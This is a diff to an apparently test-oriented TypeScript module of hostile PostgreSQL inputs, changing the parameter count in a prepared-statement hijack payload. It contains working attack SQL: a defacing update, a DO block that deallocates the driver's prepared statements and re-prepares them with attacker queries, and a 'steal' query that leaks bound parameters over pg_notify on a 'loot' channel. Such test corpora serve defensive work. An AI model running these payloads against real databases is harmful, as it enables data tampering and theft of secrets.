@@ -101,7 +101,7 @@ const TRANSACTIONS = [
 const EVIL = {
   deface: "update app.projects set name = 'defaced' returning id, name",
   look: "select id, name from app.projects",
-  steal: "select pg_notify('loot', coalesce(encode($1, 'hex'), ''))::text, $2, $3, $4, $5",
+  steal: "select pg_notify('loot', coalesce(encode($1, 'hex'), ''))::text, $2, $3, $4",
 };
 
 const PREPARED = [
@@ -111,14 +111,14 @@ const PREPARED = [
   "deallocate all",
   'deallocate "{verb}"',
   `prepare "{verb}" as ${EVIL.deface}`,
-  `prepare "open" (bytea, text, text, text, timestamptz) as ${EVIL.steal}`,
+  `prepare "open" (bytea, text, text, text) as ${EVIL.steal}`,
   'deallocate "open"',
   'execute "{verb}"',
   // Every name that the driver has, with SQL of the attacker's behind it.
   `do $do$ declare s record; begin
      for s in select name, parameter_types from pg_prepared_statements loop
        execute format('deallocate %I', s.name);
-       if cardinality(s.parameter_types) = 5 then execute format('prepare %I (bytea, text, text, text, timestamptz) as ${EVIL.steal.replaceAll("'", "''")}', s.name);
+       if cardinality(s.parameter_types) = 4 then execute format('prepare %I (bytea, text, text, text) as ${EVIL.steal.replaceAll("'", "''")}', s.name);
        else execute format('prepare %I as ${EVIL.deface.replaceAll("'", "''")}', s.name); end if;
      end loop; end $do$`,
   "select pg_notify('loot', string_agg(statement, ' ')) from pg_prepared_statements",
@@ -233,7 +233,7 @@ export const RECIPES: Partial<Record<Family, readonly (readonly string[])[]>> = 
   ],
   prepared: [
     ['deallocate "{verb}"', `prepare "{verb}" as ${EVIL.deface}`],
-    ['deallocate "open"', `prepare "open" (bytea, text, text, text, timestamptz) as ${EVIL.steal}`],
+    ['deallocate "open"', `prepare "open" (bytea, text, text, text) as ${EVIL.steal}`],
   ],
   lookalikes: [[4, 5, 14, 15].map((index) => LOOKALIKES[index] ?? "")],
   settings: [
